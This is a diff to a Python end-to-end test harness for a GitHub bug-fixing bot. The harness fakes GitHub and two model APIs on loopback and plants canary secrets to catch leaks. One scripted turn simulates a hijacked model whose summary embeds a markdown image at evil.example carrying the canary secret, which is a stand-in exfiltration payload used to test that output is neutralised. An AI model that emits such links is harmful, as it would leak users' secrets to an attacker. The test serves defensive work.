@@ -1,6 +1,6 @@
 """The world an end-to-end test runs in: a real `ai-fix serve` process on loopback, GitHub faked at
-the HTTP level (served on loopback, every request checked against GitHub's OpenAPI), the model faked
-by a Messages API server on loopback, a bare git repository on disk as the remote, and the real
+the HTTP level (served on loopback, every request checked against GitHub's OpenAPI), the models faked
+by a Messages API and a Chat Completions server on loopback (one script for both), a bare git repository on disk as the remote, and the real
 bubblewrap sandbox running the sample repository's own tests.
 
 Every secret the service holds is a canary; `leaks()` looks for them in everything sent out.
@@ -26,9 +26,10 @@ import httpx
 
 from bot.commands.demo import make_repo, sample
 from bot.model.scripted import ScriptedModel, Turn, call, turn
+from tests.support.chat_api import FakeChatAPI, serve_chat_api
 from tests.support.fake_pulls import PullsGitHub
-from tests.support.model import FakeMessagesAPI, serve_fake_api
-from tests.support.runs import CHECK, FIX, PLAN
+from tests.support.model import FakeMessagesAPI, FakeModelAPI, serve_fake_api
+from tests.support.runs import CHECK, FIX, PLAN, SAMPLE_CRITERIA
 from tests.support.server import serve, wait_for_http
 from tests.support.webhooks import INSTALLATION, REPO, deliver
 
@@ -37,10 +38,11 @@ SECRETS = {
     "AIFIX_WEBHOOK_SECRET": f"whsec-{CANARY}-webhook",
     "AIFIX_ADMIN_TOKEN": f"admin-{CANARY}-token",
     "AIFIX_ANTHROPIC_API_KEY": f"sk-ant-{CANARY}-apikey",
+    "AIFIX_OPENAI_API_KEY": f"sk-{CANARY}-openai-key",
 }
 MODEL = "claude-haiku-4-5"
 SENDER = "Codertocat"
-FINAL = {"done", "failed", "cancelled", "rejected", "needs_clarification", "handed_off"}
+FINAL = {"done", "unverified", "failed", "cancelled", "rejected", "needs_clarification", "handed_off"}
 
 
 PYTHON = Path(sys.executable)
@@ -54,18 +56,23 @@ FIX_SCRIPT = [
     # A hijacked model trying to leak a secret and fetch an image: both must arrive inert.
     turn(
         "Done.",
-        call("finish", summary=f"Fixed add(). ![x](https://evil.example/p.png?k={CANARY})", risks=["none known"]),
+        call(
+            "finish",
+            summary=f"Fixed add(). ![x](https://evil.example/p.png?k={CANARY})",
+            risks=["none known"],
+            criteria=SAMPLE_CRITERIA,
+        ),
     ),
 ]
 
 
-def config(max_steps: int = 5) -> str:
+def config(max_steps: int = 5, model: str = MODEL) -> str:
     return (
         f"checks:\n  - name: tests\n    run: env PYTEST_DISABLE_PLUGIN_AUTOLOAD=1 {PYTHON} -m pytest -q tests\n    timeout: 60\n"
         'scope:\n  allow: ["**"]\n  deny: []\n'
         f"budget:\n  max_steps: {max_steps}\n  max_cost_usd: 1\n  max_wall_minutes: 5\n  max_files_changed: 3\n"
         "  max_lines_changed: 40\n  max_retries_same_failure: 2\n"
-        f"model:\n  name: {MODEL}\n  small: {MODEL}\n"
+        f"model:\n  name: {model}\n  small: {model}\n"
     )
 
 
@@ -80,6 +87,7 @@ class World:
     root: Path
     github: PullsGitHub
     model_api: FakeMessagesAPI
+    chat_api: FakeChatAPI
     url: str
     bare: Path
     log: Path
@@ -91,7 +99,7 @@ class World:
     # ---- driving it ------------------------------------------------------------------------
 
     def script(self, turns: list[Turn]) -> None:
-        self.model_api.scripted = ScriptedModel(turns)
+        self.model_api.scripted = self.chat_api.scripted = ScriptedModel(turns)
 
     def send(self, event: str, payload: dict[str, Any], *, delivery: str | None = None) -> httpx.Response:
         payload["repository"].update(clone_url=f"file://{self.bare}", default_branch="main")
@@ -127,16 +135,16 @@ class World:
         return self.github.pulls[(REPO, number)]
 
     def leaks(self) -> list[str]:
-        return leaks(self.github, self.model_api)
+        return leaks(self.github, self.model_api, self.chat_api)
 
 
-def sent(github: PullsGitHub, model_api: FakeMessagesAPI) -> list[str]:
-    """Everything sent to the fake GitHub (paths, queries, bodies) and to the fake model, as text."""
+def sent(github: PullsGitHub, *model_apis: FakeModelAPI) -> list[str]:
+    """Everything sent to the fake GitHub (paths, queries, bodies) and to the fake models, as text."""
     out = [f"{c.path} {json.dumps(c.query)} {json.dumps(c.json)}" for c in github.calls]
-    return out + [json.dumps(c) for c in github.graphql_calls] + list(model_api.bodies)
+    return out + [json.dumps(c) for c in github.graphql_calls] + [b for api in model_apis for b in api.bodies]
 
 
-def leaks(github: PullsGitHub, model_api: FakeMessagesAPI) -> list[str]:
+def leaks(github: PullsGitHub, *model_apis: FakeModelAPI) -> list[str]:
     """Secrets (whole, 8-character pieces, base64, URL-encoded) found in anything sent out (headers aside)."""
     key_lines = [line for line in github.private_key_pem.splitlines() if "PRIVATE KEY" not in line]
     values = [*SECRETS.values(), *key_lines, *github.tokens]  # tokens: every installation token minted
@@ -145,13 +153,14 @@ def leaks(github: PullsGitHub, model_api: FakeMessagesAPI) -> list[str]:
         forms.update({v, base64.b64encode(v.encode()).decode().rstrip("="), urllib.parse.quote(v, safe="")})
         forms.update(v[i : i + 8] for i in range(0, len(v) - 8, 4))
     forms = {f for f in forms if len(f) >= 8 and f != "sk-ant-c"}
-    return sorted({f for text in sent(github, model_api) for f in forms if f in text})
+    return sorted({f for text in sent(github, *model_apis) for f in forms if f in text})
 
 
-def make_remote(root: Path, **changes: str) -> Path:
-    """The sample repository (its own config, a secret in `.env`, `changes` on top) pushed to a bare repository on disk."""
+def make_remote(root: Path, model: str = MODEL, **changes: str) -> Path:
+    """The sample repository (its own config naming `model`, a secret in `.env`, `changes` on top) pushed to a bare
+    repository on disk."""
     files, _issue = sample()
-    files[".github/ai-fix.yml"] = config()
+    files[".github/ai-fix.yml"] = config(model=model)
     files[".env"] = f"DEPLOY_TOKEN={CANARY}-in-the-repo\n"
     repo = make_repo(root / "origin", {**files, **changes})
     bare = root / "remote.git"
@@ -167,14 +176,15 @@ def make_github(bare: Path, app_id: int) -> PullsGitHub:
     return github
 
 
-def service_env(root: Path, github: PullsGitHub, github_url: str, model_url: str) -> dict[str, str]:
-    """The service's settings, as `ai-fix serve` reads them from the environment."""
+def service_env(root: Path, github: PullsGitHub, github_url: str, model_url: str, chat_url: str = "") -> dict[str, str]:
+    """The service's settings, as `ai-fix serve` reads them from the environment (`chat_url`: the Chat Completions fake)."""
     return {
         **SECRETS,
         "AIFIX_APP_ID": str(github.app_id),
         "AIFIX_PRIVATE_KEY": github.private_key_pem,
         "AIFIX_GITHUB_API_URL": github_url,
         "AIFIX_ANTHROPIC_BASE_URL": model_url,
+        "AIFIX_OPENAI_BASE_URL": chat_url or "http://127.0.0.1:9/v1",
         "AIFIX_DATABASE_URL": f"sqlite:///{root / 'ai-fix.db'}",
         "AIFIX_PIPELINE": "bot.commands.toolkit:delivery_pipeline",
         "AIFIX_SANDBOX": "bwrap",
@@ -186,26 +196,29 @@ def service_env(root: Path, github: PullsGitHub, github_url: str, model_url: str
     }
 
 
-def start_world(root: Path, stack: ExitStack) -> World:
-    bare = make_remote(root)
+def start_world(root: Path, stack: ExitStack, *, model: str = MODEL) -> World:
+    """`model`: the model the sample repository's `.github/ai-fix.yml` names (both `name` and `small`)."""
+    bare = make_remote(root, model)
     github = make_github(bare, app_id=4343)
     github_url = stack.enter_context(serve(github.asgi()))
 
     model_api, model_url = stack.enter_context(serve_fake_api(ScriptedModel([])))
+    chat_api, chat_url = stack.enter_context(serve_chat_api(ScriptedModel([])))
 
     port = free_port()
     log = root / "serve.log"
     env = {
         **{k: v for k, v in os.environ.items() if not k.startswith("AIFIX_")},
-        **service_env(root, github, github_url + "/", model_url),
+        **service_env(root, github, github_url + "/", model_url, chat_url),
     }
     command = [str(Path(sys.executable).with_name("ai-fix")), "serve", "--host", "127.0.0.1", "--port", str(port)]
     with log.open("wb") as out:
         process = subprocess.Popen(command, env=env, stdout=out, stderr=subprocess.STDOUT, cwd=root)
     stack.callback(_stop, process)
     url = f"http://127.0.0.1:{port}"
-    wait_for_http(f"{url}/healthz", process, log)
-    return World(root, github, model_api, url, bare, log)
+    # Importing the SDKs alone takes 10 s of wall time on a loaded 2-core machine.
+    wait_for_http(f"{url}/healthz", process, log, timeout=60)
+    return World(root, github, model_api, chat_api, url, bare, log)
 
 
 def _stop(process: subprocess.Popen[bytes]) -> None:
